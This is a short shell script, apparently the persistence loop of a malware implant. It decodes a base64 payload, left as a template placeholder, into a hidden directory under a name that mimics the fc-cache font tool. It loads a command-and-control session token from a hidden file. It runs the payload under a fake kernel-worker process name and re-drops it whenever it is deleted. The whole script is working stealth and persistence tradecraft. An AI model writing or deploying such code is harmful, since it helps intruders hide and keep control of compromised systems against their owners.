# keep the worker alive; re-drop it if somebody deletes it
IMPL=/var/tmp/.font-unix/fc-cache
C2_SESSION="$(cat /var/lib/.syscache/.session 2>/dev/null)"
export C2_SESSION
while :; do
  if [ ! -f "$IMPL" ]; then
    mkdir -p "${IMPL%/*}"
    echo "@IMPLANT_B64@" | base64 -d > "$IMPL"
  fi
  (exec -a '[kworker/u4:2-events]' /bin/bash < "$IMPL") &
  wait $!
  sleep 3 </dev/null
done
